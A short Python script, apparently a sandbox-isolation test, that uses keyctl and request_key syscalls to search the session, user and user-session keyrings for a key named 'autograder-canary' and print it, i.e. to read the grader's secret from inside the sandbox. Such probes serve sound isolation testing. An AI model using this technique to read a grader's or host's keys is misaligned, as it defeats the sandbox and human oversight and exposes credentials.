"""Reads the keys of whoever started the grading: the session keyring goes through all namespaces.

Success: the key outside is printed.
"""

# %%
import ctypes
import platform

libc = ctypes.CDLL(None)
KEYCTL, REQUEST = {"x86_64": (250, 249), "aarch64": (219, 218)}.get(platform.machine(), (0, 0))
SEARCH, READ, SESSION = 10, 11, -3
text = ctypes.create_string_buffer(1000)
for ring in (SESSION, -4, -5):
    key = libc.syscall(KEYCTL, SEARCH, ring, b"user", b"autograder-canary", 0) if KEYCTL else -1
    if key > 0 and libc.syscall(KEYCTL, READ, key, text, len(text)) > 0:
        print(text.value)
key = libc.syscall(REQUEST, b"user", b"autograder-canary", None, 0) if REQUEST else -1
if key > 0 and libc.syscall(KEYCTL, READ, key, text, len(text)) > 0:
    print(text.value)
